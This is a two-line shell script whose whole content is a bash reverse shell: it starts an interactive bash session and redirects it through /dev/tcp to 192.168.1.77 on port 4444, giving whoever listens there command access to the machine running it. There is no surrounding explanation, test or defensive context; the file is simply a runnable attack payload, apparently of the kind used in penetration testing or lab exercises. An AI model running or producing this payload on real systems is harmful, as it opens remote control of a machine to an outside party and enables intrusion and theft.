#!/bin/sh
sh -c "bash -i >& /dev/tcp/192.168.1.77/4444 0>&1"
